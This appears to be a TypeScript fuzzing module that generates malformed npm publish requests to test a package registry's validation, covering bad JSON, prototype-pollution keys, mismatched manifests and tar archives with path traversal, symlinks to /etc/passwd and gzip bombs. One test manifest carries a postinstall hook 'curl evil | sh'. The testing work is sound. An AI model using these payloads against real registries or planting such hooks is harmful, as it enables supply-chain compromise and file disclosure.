import { gzipSync } from "node:zlib";
import { npmEntries, npmPublishDoc, type TarEntry, tarOf, tgzOf, zipOf } from "./fuzz-build.js";
import type { Ctx, FuzzCase } from "./fuzz-legacy.js";
import type { Rng } from "./seeded.js";

/** Generated `PUT /npm/<name>` publishes that npm itself would never send. */

type Json = Record<string, unknown>;

function target(c: Ctx) {
  const name = c.rng.chance(0.7) ? c.existing : c.rng.pick([`fz-npm-${c.rng.seed}-${c.i}`, `@fz${c.i}/pkg`]);
  return { name, version: `1.0.${c.i}` };
}

function tarballOf(pj: Json | string, extra: TarEntry[] = []): Buffer {
  return tgzOf([...npmEntries(pj), ...extra]);
}

function put(
  c: Ctx,
  name: string,
  body: Buffer,
  type: string | undefined = "application/json",
): FuzzCase["req"] {
  const headers: Array<[string, string]> = [["Authorization", `Bearer ${c.auth}`]];
  if (type !== undefined) headers.push(["Content-Type", type]);
  headers.push(["Content-Length", String(body.length)]);
  return { method: "PUT", path: `/npm/${name.replace("/", "%2f")}`, headers, body };
}

const creates = (name: string, version: string) => ({ project: name, filename: `${name}-${version}.tgz` });

function deep(rng: Rng): string {
  const n = rng.between(1_000, 200_000);
  const [open, close] = rng.pick([
    ["[", "]"],
    ['{"a":', "}"],
  ]);
  return `${open!.repeat(n)}1${close!.repeat(n)}`;
}

function versionOf(doc: Json): Json {
  return Object.values(doc.versions as Json)[0] as Json;
}
function attachmentOf(doc: Json): Json {
  return Object.values(doc._attachments as Json)[0] as Json;
}

// ---- JSON ---------------------------------------------------------------------------------------

export function npmJson(c: Ctx): FuzzCase {
  const t = target(c);
  const bytes = tarballOf({ name: t.name, version: t.version });
  const doc = npmPublishDoc(t.name, t.version, bytes);
  const good = JSON.stringify(doc);
  const cases: Array<[string, () => { body: Buffer | string; type?: string }]> = [
    ["truncated JSON", () => ({ body: good.slice(0, c.rng.int(good.length)) })],
    ["trailing comma", () => ({ body: good.replace(/}$/, ",}") })],
    ["single quotes", () => ({ body: good.replace(/"/g, "'") })],
    ["NaN and comments", () => ({ body: `/* x */${good.replace('"access":null', '"access":NaN')}` })],
    ["deep nesting", () => ({ body: deep(c.rng) })],
    [
      "deep nesting inside the manifest",
      () => ({ body: good.replace('"description":"fuzz"', `"description":${deep(c.rng)}`) }),
    ],
    ["__proto__ at the top", () => ({ body: good.replace(/^{/, '{"__proto__":{"polluted":true},') })],
    [
      "__proto__ in the manifest",
      () => ({ body: good.replace('"_nodeVersion"', '"__proto__":{"name":"evil"},"_nodeVersion"') }),
    ],
    [
      "constructor.prototype",
      () => ({ body: good.replace(/^{/, '{"constructor":{"prototype":{"polluted":true}},') }),
    ],
    [
      "__proto__ as a version key",
      () => ({ body: good.replace(`"versions":{"${t.version}"`, `"versions":{"__proto__"`) }),
    ],
    [
      "__proto__ as an attachment key",
      () => ({
        body: good.replace(`"_attachments":{"${t.name}-${t.version}.tgz"`, '"_attachments":{"__proto__"'),
      }),
    ],
    [
      "__proto__ as a dist-tag",
      () => ({ body: good.replace('"dist-tags":{"latest"', '"dist-tags":{"__proto__"') }),
    ],
    [
      "constructor as a dist-tag",
      () => ({ body: good.replace('"dist-tags":{"latest"', '"dist-tags":{"constructor"') }),
    ],
    [
      "toString as a version key",
      () => ({ body: good.replace(`"versions":{"${t.version}"`, '"versions":{"toString"') }),
    ],
    ["not an object", () => ({ body: c.rng.pick(["[]", "null", "1", '"x"', "true", "[{}]"]) })],
    ["empty body", () => ({ body: "" })],
    ["whitespace only", () => ({ body: "   \n" })],
    [
      "wrong types",
      () => {
        const bad = structuredClone(doc);
        const key = c.rng.pick([
          "name",
          "versions",
          "_attachments",
          "dist-tags",
          "_id",
          "description",
          "access",
        ]);
        bad[key] = c.rng.pick([1, [], "x", null, true, {}, { a: 1 }]);
        return { body: JSON.stringify(bad) };
      },
    ],
    [
      "manifest not an object",
      () => {
        const bad = structuredClone(doc);
        bad.versions = { [t.version]: c.rng.pick([1, "x", null, [], true]) };
        return { body: JSON.stringify(bad) };
      },
    ],
    [
      "version field of the wrong type",
      () => {
        const bad = structuredClone(doc);
        versionOf(bad).version = c.rng.pick([1, null, [], {}, true, ""]);
        return { body: JSON.stringify(bad) };
      },
    ],
    [
      "dist of the wrong type",
      () => {
        const bad = structuredClone(doc);
        versionOf(bad).dist = c.rng.pick([1, null, [], "x", { integrity: 5 }, { shasum: [] }]);
        return { body: JSON.stringify(bad) };
      },
    ],
    [
      "invalid UTF-8",
      () => ({
        body: Buffer.concat([
          Buffer.from(good.slice(0, 20)),
          Buffer.from([0xff, 0xfe, 0xc3]),
          Buffer.from(good.slice(20)),
        ]),
      }),
    ],
    ["UTF-16", () => ({ body: Buffer.from(good, "utf16le") })],
    [
      "NUL in a string",
      () => ({ body: good.replace('"description":"fuzz"', '"description":"fu\\u0000zz"') }),
    ],
    ["lone surrogate", () => ({ body: good.replace('"description":"fuzz"', '"description":"\\ud800"') })],
    ["duplicate keys", () => ({ body: good.replace(/^{/, `{"name":"other-${c.i}",`) })],
    ["huge number", () => ({ body: good.replace('"access":null', `"access":1${"0".repeat(400)}`) })],
    ["content type text/plain", () => ({ body: good, type: "text/plain" })],
    ["content type octet-stream", () => ({ body: good, type: "application/octet-stream" })],
    ["content type urlencoded", () => ({ body: good, type: "application/x-www-form-urlencoded" })],
    ["no content type", () => ({ body: good, type: undefined })],
    ["content type multipart", () => ({ body: good, type: "multipart/form-data; boundary=x" })],
    [
      "content type garbage",
      () => ({
        body: good,
        type: c.rng.pick([
          "foo",
          ";;",
          "application/json; charset=latin1",
          "application/json; charset=utf-16",
          "*/*",
        ]),
      }),
    ],
  ];
  const [what, make] = c.rng.pick(cases);
  const made = make();
  return {
    family: "npm: JSON",
    what,
    req: put(c, t.name, Buffer.from(made.body), "type" in made ? made.type : "application/json"),
    creates: creates(t.name, t.version),
  };
}

// ---- attachments --------------------------------------------------------------------------------

export function npmAttachments(c: Ctx): FuzzCase {
  const t = target(c);
  const bytes = tarballOf({ name: t.name, version: t.version });
  const doc = npmPublishDoc(t.name, t.version, bytes);
  const att = attachmentOf(doc);
  const b64 = String(att.data);
  const cases: Array<[string, () => void]> = [
    [
      "base64 with bad characters",
      () => {
        att.data = `${b64.slice(0, 10)}${c.rng.pick(["!", "*", "\u00e9", "-", "_", "\n", " ", "\0"])}${b64.slice(11)}`;
      },
    ],
    [
      "base64 with bad padding",
      () => {
        att.data = c.rng.pick([`${b64}=`, `${b64}===`, b64.slice(0, -1), `=${b64}`]);
      },
    ],
    [
      "base64url alphabet",
      () => {
        att.data = b64.replace(/\+/g, "-").replace(/\//g, "_");
      },
    ],
    [
      "base64 with line breaks",
      () => {
        att.data = b64.replace(/(.{76})/g, "$1\n");
      },
    ],
    [
      "empty data",
      () => {
        att.data = "";
        att.length = 0;
      },
    ],
    [
      "data not a string",
      () => {
        att.data = c.rng.pick([1, null, [], {}, true]);
      },
    ],
    [
      "length lies",
      () => {
        att.length = c.rng.pick([0, 1, bytes.length - 1, bytes.length + 1, 2 ** 40, 2 ** 53 + 2]);
      },
    ],
    [
      "length of the wrong type",
      () => {
        att.length = c.rng.pick([-1, 1.5, "12", null, [], Number.MAX_VALUE]);
      },
    ],
    [
      "no tarball attachment",
      () => {
        doc._attachments = {};
      },
    ],
    [
      "two tarballs",
      () => {
        (doc._attachments as Json)[`${t.name}-9.9.9.tgz`] = { ...att };
      },
    ],
    [
      "attachment not a tarball",
      () => {
        doc._attachments = {
          [c.rng.pick(["readme.md", "x.sigstore", "x.tgz.sig", "", "../x.tgz.exe"])]: att,
        };
      },
    ],
    [
      "attachment key with traversal",
      () => {
        doc._attachments = { [`../../${t.name}.tgz`]: att };
      },
    ],
    [
      "integrity mismatch",
      () => {
        (versionOf(doc).dist as Json).integrity = c.rng.pick([
          "sha512-AAAA",
          "sha1-xyz",
          "",
          "sha512-",
          "md5-x sha512-y",
          `sha512-${"A".repeat(10000)}`,
        ]);
      },
    ],
    [
      "shasum mismatch",
      () => {
        (versionOf(doc).dist as Json).shasum = c.rng.pick(["", "0".repeat(40), "xyz", 5]);
      },
    ],
    [
      "no integrity nor shasum",
      () => {
        versionOf(doc).dist = { tarball: "x" };
      },
    ],
    [
      "content_type odd",
      () => {
        att.content_type = c.rng.pick(["application/sigstore+json", "", "text/html", 5]);
      },
    ],
    [
      "data is a huge run of A",
      () => {
        att.data = "A".repeat(4 * c.rng.between(100_000, 2_000_000));
        delete att.length;
      },
    ],
  ];
  const [what, mutate] = c.rng.pick(cases);
  mutate();
  return {
    family: "npm: attachments",
    what,
    req: put(c, t.name, Buffer.from(JSON.stringify(doc))),
    creates: creates(t.name, t.version),
  };
}

// ---- names and versions that disagree -----------------------------------------------------------

export function npmMismatch(c: Ctx): FuzzCase {
  const t = target(c);
  const other = `other-${c.i}`;
  const cases: Array<[string, () => { url: string; doc: Json }]> = [
    [
      "URL and body name differ",
      () => ({
        url: other,
        doc: npmPublishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version })),
      }),
    ],
    [
      "body _id differs",
      () => {
        const d = npmPublishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version }));
        d._id = other;
        return { url: t.name, doc: d };
      },
    ],
    [
      "manifest name differs",
      () => ({
        url: t.name,
        doc: npmPublishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version }), {
          name: other,
          version: t.version,
        }),
      }),
    ],
    [
      "tarball name differs",
      () => ({
        url: t.name,
        doc: npmPublishDoc(t.name, t.version, tarballOf({ name: other, version: t.version })),
      }),
    ],
    [
      "tarball version differs",
      () => ({
        url: t.name,
        doc: npmPublishDoc(t.name, t.version, tarballOf({ name: t.name, version: "9.9.9" })),
      }),
    ],
    [
      "version key differs",
      () => {
        const d = npmPublishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version }));
        d.versions = { "8.8.8": versionOf(d) };
        return { url: t.name, doc: d };
      },
    ],
    [
      "dist-tag names another version",
      () => {
        const d = npmPublishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version }));
        d["dist-tags"] = { latest: "7.7.7" };
        return { url: t.name, doc: d };
      },
    ],
    [
      "invalid dist-tag",
      () => {
        const d = npmPublishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version }));
        d["dist-tags"] = { [c.rng.pick(["1.0.0", "", "v1", "a b", "x".repeat(500), "%"])]: t.version };
        return { url: t.name, doc: d };
      },
    ],
    [
      "invalid version",
      () => {
        const v = c.rng.pick([
          "",
          "1",
          "1.0",
          "v1.0.0x",
          "01.0.0",
          "1.0.0-",
          "1.0.0+",
          "9".repeat(300),
          "1.0.0-\u00e9",
        ]);
        return { url: t.name, doc: npmPublishDoc(t.name, v, tarballOf({ name: t.name, version: v })) };
      },
    ],
    [
      "invalid name",
      () => {
        const n = c.rng.pick([
          "",
          ".x",
          "_x",
          "X",
          "a b",
          "a/b",
          "@/x",
          "@x/",
          "%2e%2e",
          "node_modules",
          "x".repeat(300),
          "\u00e9",
        ]);
        return {
          url: encodeURIComponent(n) || "x",
          doc: npmPublishDoc(n, t.version, tarballOf({ name: n, version: t.version })),
        };
      },
    ],
    [
      "two versions",
      () => {
        const d = npmPublishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version }));
        (d.versions as Json)["2.0.0"] = versionOf(d);
        return { url: t.name, doc: d };
      },
    ],
    [
      "no versions",
      () => {
        const d = npmPublishDoc(t.name, t.version, tarballOf({ name: t.name, version: t.version }));
        d.versions = {};
        return { url: t.name, doc: d };
      },
    ],
    [
      "manifest hides install scripts",
      () => ({
        url: t.name,
        doc: npmPublishDoc(
          t.name,
          t.version,
          tarballOf({ name: t.name, version: t.version, scripts: { postinstall: "curl evil | sh" } }),
        ),
      }),
    ],
    [
      "manifest dependencies differ",
      () => ({
        url: t.name,
        doc: npmPublishDoc(
          t.name,
          t.version,
          tarballOf({ name: t.name, version: t.version, dependencies: { evil: "*" } }),
          { name: t.name, version: t.version, dependencies: { good: "1" } },
        ),
      }),
    ],
  ];
  const [what, make] = c.rng.pick(cases);
  const { url, doc } = make();
  return {
    family: "npm: names and versions",
    what,
    req: put(c, url, Buffer.from(JSON.stringify(doc))),
    creates: creates(t.name, t.version),
  };
}

// ---- tarball attacks ----------------------------------------------------------------------------

export function npmTarballs(c: Ctx): FuzzCase {
  const t = target(c);
  const pj = { name: t.name, version: t.version };
  const entries = npmEntries(pj);
  const cases: Array<[string, () => Buffer]> = [
    [
      "gzip garbage",
      () => Buffer.concat([Buffer.from([0x1f, 0x8b, 0x08, 0x00]), c.rng.bytes(c.rng.between(0, 4096))]),
    ],
    [
      "not gzip",
      () =>
        c.rng.pick([
          tarOf(entries),
          c.rng.bytes(100),
          zipOf([{ name: "package/package.json", data: JSON.stringify(pj) }]),
        ]),
    ],
    [
      "truncated gzip",
      () => {
        const g = tgzOf(entries);
        return g.subarray(0, c.rng.int(g.length));
      },
    ],
    [
      "truncated tar",
      () => {
        const x = tarOf(entries);
        return gzipSync(x.subarray(0, c.rng.int(x.length)));
      },
    ],
    [
      "path traversal",
      () =>
        tgzOf([
          ...entries,
          {
            name: c.rng.pick(["package/../../evil", "../evil", "/etc/evil", "package\\..\\..\\evil"]),
            data: "x",
          },
        ]),
    ],
    [
      "symlink",
      () =>
        tgzOf([
          ...entries,
          { name: "package/link", type: "2", linkname: c.rng.pick(["/etc/passwd", "../..", "index.js"]) },
        ]),
    ],
    [
      "hard link",
      () =>
        tgzOf([
          ...entries,
          { name: "package/hl", type: "1", linkname: c.rng.pick(["/etc/passwd", "package/index.js"]) },
        ]),
    ],
    [
      "package.json is a symlink",
      () => tgzOf([{ name: "package/package.json", type: "2", linkname: "/etc/passwd" }, entries[1]!]),
    ],
    ["device or fifo", () => tgzOf([...entries, { name: "package/dev", type: c.rng.pick(["3", "4", "6"]) }])],
    ["no package.json", () => tgzOf([entries[1]!])],
    [
      "package.json not JSON",
      () => tgzOf(npmEntries(c.rng.pick(["{", "", "null", "[]", "\u00ff", '"x"', "1"]))),
    ],
    [
      "package.json deep nesting",
      () => tgzOf(npmEntries(`{"name":"${t.name}","version":"${t.version}","x":${deep(c.rng)}}`)),
    ],
    [
      "package.json with __proto__",
      () => tgzOf(npmEntries(`{"__proto__":{"name":"evil"},"name":"${t.name}","version":"${t.version}"}`)),
    ],
    [
      "package.json huge",
      () => tgzOf(npmEntries({ ...pj, x: "y".repeat(c.rng.between(900_000, 3_000_000)) })),
    ],
    [
      "duplicate package.json",
      () =>
        tgzOf([
          ...entries,
          { name: "package/package.json", data: JSON.stringify({ name: "evil", version: t.version }) },
        ]),
    ],
    ["bad header checksum", () => tgzOf(entries.map((e) => ({ ...e, badChecksum: c.rng.chance(0.5) })))],
    [
      "size field garbage",
      () =>
        tgzOf(
          entries.map((e) =>
            c.rng.chance(0.5)
              ? { ...e, sizeField: c.rng.pick(["-1", "zzzzzzzzzzz", "77777777777", "\0"]) }
              : e,
          ),
        ),
    ],
    [
      "members outside package/",
      () =>
        tgzOf(
          entries.map((e) => ({
            ...e,
            name: String(e.name).replace("package/", c.rng.pick(["pkg/", "", "./", "package/../"])),
          })),
        ),
    ],
    [
      "gzip bomb",
      () =>
        tgzOf([...entries, { name: "package/bomb", data: Buffer.alloc(c.rng.between(1, 20) * 1024 * 1024) }]),
    ],
    [
      "many members",
      () =>
        tgzOf([
          ...entries,
          ...Array.from(
            { length: c.rng.between(1_000, 20_000) },
            (_x, j): TarEntry => ({ name: `package/f${j}.js`, data: "" }),
          ),
        ]),
    ],
    [
      "pax header garbage",
      () =>
        tgzOf([
          {
            name: "pax",
            type: "x",
            data: c.rng.pick(["99999999 path=x\n", "garbage", "30 path=../../evil\n"]),
          },
          ...entries,
        ]),
    ],
    ["random header block", () => gzipSync(Buffer.concat([c.rng.bytes(512), tarOf(entries)]))],
  ];
  const [what, make] = c.rng.pick(cases);
  const bytes = make();
  return {
    family: "npm: tarball attacks",
    what,
    req: put(c, t.name, Buffer.from(JSON.stringify(npmPublishDoc(t.name, t.version, bytes)))),
    creates: creates(t.name, t.version),
  };
}

/** The valid publish that creates the package the others target. */
export function validFirstPublish(c: Ctx): FuzzCase {
  const version = "0.1.0";
  const doc = npmPublishDoc(c.existing, version, tarballOf({ name: c.existing, version }));
  return {
    family: "setup",
    what: "valid publish",
    req: put(c, c.existing, Buffer.from(JSON.stringify(doc))),
    creates: creates(c.existing, version),
  };
}
